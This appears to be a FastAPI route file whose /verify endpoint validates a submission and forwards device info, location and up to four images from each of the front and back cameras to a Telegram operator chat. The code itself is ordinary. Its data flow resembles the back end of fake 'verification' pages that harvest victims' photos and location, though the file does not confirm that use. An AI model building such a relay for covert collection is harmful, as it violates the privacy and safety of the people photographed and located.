"""
Device verification endpoint.

POST /verify: relay a verification submission (device info, location,
front/back camera images) to the operator chat.
"""

import logging
from typing import Any

from fastapi import APIRouter, Body, Depends
from fastapi.responses import JSONResponse
from pydantic import ValidationError as PydanticValidationError

from app.config import Settings, get_settings
from app.dependencies import build_relay, get_sleep, get_telegram_client
from app.models.verification import TextMessage, VerificationRequest, VerificationResponse
from app.services.recovery import run_best_effort
from app.services.relay import Sleep
from app.services.telegram_client import TelegramClient
from app.services.verification import build_failure_message, process_verification

logger = logging.getLogger(__name__)

router = APIRouter()


def _is_missing(value: Any) -> bool:
    """Absent, null, false, zero or empty string. Empty objects and lists count as present."""
    if isinstance(value, (dict, list)):
        return False
    return not value


def _bad_request(message: str) -> JSONResponse:
    return JSONResponse(status_code=400, content={"success": False, "message": message})


@router.post(
    "/verify",
    response_model=VerificationResponse,
    responses={
        200: {
            "description": "Submission relayed to the operator chat",
            "content": {
                "application/json": {
                    "example": {
                        "success": True,
                        "receivedImages": 6,
                        "message": "Verification data processed successfully",
                    }
                }
            },
        },
        400: {"description": "deviceInfo or location missing / malformed"},
        500: {"description": "A relay send exhausted its retries"},
    },
)
async def verify(
    payload: Any = Body(None),
    client: TelegramClient = Depends(get_telegram_client),
    settings: Settings = Depends(get_settings),
    sleep: Sleep = Depends(get_sleep),
):
    """
    Relay a device verification submission.

    Sends a summary message, up to four front and four back images (paced
    to respect Bot API rate limits), and a confirmation message. If any
    send fails after retries, the operator chat gets a single best-effort
    failure notice and the request answers 500.
    """
    if not isinstance(payload, dict):
        payload = {}

    if _is_missing(payload.get("deviceInfo")) or _is_missing(payload.get("location")):
        return _bad_request("Device info and location are required")

    try:
        submission = VerificationRequest.model_validate(payload)
    except PydanticValidationError as exc:
        logger.warning(f"Rejected malformed verification payload: {exc.error_count()} error(s)")
        return _bad_request("Device info and location are malformed")

    relay = build_relay(client, settings, sleep, settings.verify_retry_on_send)

    try:
        total = await process_verification(
            submission,
            relay,
            max_images=settings.max_images_per_side,
            image_delay_seconds=settings.image_send_delay_seconds,
        )
    except Exception as exc:
        logger.error(f"Verification error: {exc}")

        notice = TextMessage(content=build_failure_message(exc))
        outcome = await run_best_effort(
            lambda: relay.send_once(notice),
            "operator failure notification",
        )
        if not outcome.succeeded:
            logger.error(f"Failed to send error notification: {outcome.error}")

        return JSONResponse(
            status_code=500,
            content={
                "success": False,
                "message": "Verification processing failed",
                "error": str(exc),
            },
        )

    return VerificationResponse(received_images=total)
